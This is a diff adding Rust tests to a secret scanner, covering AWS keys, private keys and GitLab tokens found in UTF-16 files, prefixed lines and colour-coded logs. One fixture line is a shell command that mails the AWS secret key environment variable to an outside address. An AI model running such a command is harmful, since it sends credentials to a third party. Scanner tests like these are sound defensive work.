@@ -322,6 +322,73 @@ fn assignments_are_found_in_every_notation() {
     assert!(lost.is_empty(), "{} of {count}: {lost:#?}", lost.len());
 }
 
+/// A file in UTF-16 is judged on its text: an expired key is a note, and a key of another store is called that.
+#[test]
+fn wide_files_are_judged_as_others_are() {
+    let sandbox = Sandbox::new();
+    let texts = [
+        r#"{"AccessKeyId": "{{asia}}", "SecretAccessKey": "{{secret}}", "Expiration": "2020-01-01T00:00:00Z"}"#,
+        "MINIO_ENDPOINT=https://minio.corp.net:9000\naws_access_key_id={{akia}}\naws_secret_access_key={{secret}}\n",
+        "aws_secret_access_key={{secret}}\nprintf \"$AWS_SECRET_ACCESS_KEY\" | mail -s key bob@example.com\n",
+    ];
+    for (number, text) in texts.iter().enumerate() {
+        let text = expand(text).text;
+        let wide = |bytes: fn(u16) -> [u8; 2], mark: [u8; 2]| {
+            [mark.to_vec(), text.encode_utf16().flat_map(bytes).collect()].concat()
+        };
+        sandbox.write_bytes(&format!("{number}-plain"), text.as_bytes());
+        sandbox.write_bytes(&format!("{number}-little"), &wide(u16::to_le_bytes, [0xff, 0xfe]));
+        sandbox.write_bytes(&format!("{number}-big"), &wide(u16::to_be_bytes, [0xfe, 0xff]));
+    }
+    let report = sandbox.json(&["."]);
+    let told = |name: &str| -> Vec<(String, String, u64)> {
+        let told = |finding: &&Value| {
+            let text = |name: &str| finding[name].as_str().expect("a text").to_owned();
+            (text("rule"), text("severity"), finding["location"]["startLine"].as_u64().expect("a line"))
+        };
+        // The same key in several files is a copy, too.
+        let own = |finding: &&&Value| finding["rule"] != "aws-copied-key";
+        findings_in(&report, name).iter().filter(own).map(told).collect()
+    };
+    for number in 0..texts.len() {
+        let plain = told(&format!("{number}-plain"));
+        assert!(!plain.is_empty(), "{number}");
+        for order in ["little", "big"] {
+            assert_eq!(told(&format!("{number}-{order}")), plain, "{number}-{order}");
+        }
+    }
+}
+
+/// A private key is one wherever its lines are marked.
+#[test]
+fn keys_in_diffs_mails_and_comments_are_found() {
+    let sandbox = Sandbox::new();
+    let der = [vec![0x30, 66], (0..66).map(|n| (n * 37 + 11) as u8).collect()].concat();
+    let body = data_encoding::BASE64.encode(&der);
+    let lines = ["-----BEGIN PRIVATE KEY-----", &body[..64], &body[64..], "-----END PRIVATE KEY-----"];
+    for mark in ["", "+", "> ", "// ", "# ", " * ", "    "] {
+        let text: String = lines.iter().map(|line| format!("{mark}{line}\n")).collect();
+        let run = sandbox.run_with_input(&["scan", "-", "--format", "json"], text.as_bytes());
+        assert!(run.stdout.contains("\"private-key\""), "{mark:?}: {}", run.stdout);
+    }
+}
+
+/// What a terminal colours is found in a log of it.
+#[test]
+fn coloured_keys_are_found() {
+    let sandbox = Sandbox::new();
+    for colour in ["\x1b[32m", "\x1b[01;31m\x1b[K", "\x1b[38;5;208m", "\x1b[m", "\\x1b[1m", "\\033[0;32m"] {
+        let text = expand(&format!(
+            "aws_access_key_id = {colour}{{{{akia}}}}\x1b[0m\naws_secret_access_key = {colour}{{{{secret}}}}\x1b[0m\n\
+             token {colour}glpat-{{{{base62:20}}}}\x1b[0m\n"
+        ));
+        let run = sandbox.run_with_input(&["scan", "-", "--format", "json"], text.text.as_bytes());
+        for rule in ["\"aws-access-key-pair\"", "\"gitlab-personal-access-token\""] {
+            assert!(run.stdout.contains(rule), "{colour:?}: {rule} in {}", run.stdout);
+        }
+    }
+}
+
 /// What is in a file at a commit is found there, whichever rules apply to its path.
 #[test]
 fn history_and_commits_tell_what_the_working_tree_does() {
@@ -539,7 +606,7 @@ fn a_configuration_of_gitleaks_is_used_as_it_is() {
     assert_eq!(found, set(&expected));
     let imported = sandbox.run(&["rules", "import", "g.toml"]);
     assert_eq!(imported.code, Some(0), "{}", imported.stderr);
-    assert!(imported.stdout.starts_with("6 rules; "), "{}", imported.stdout);
+    assert!(imported.stdout.starts_with("6 rules: "), "{}", imported.stdout);
     sandbox.write_bytes("bad.toml", b"[[rules]]\nid = \"x\"\nregex = '''(?<=a)b'''\n");
     let bad = sandbox.run(&["scan", "a", "--gitleaks-config", "bad.toml"]);
     assert_eq!(bad.code, Some(2));
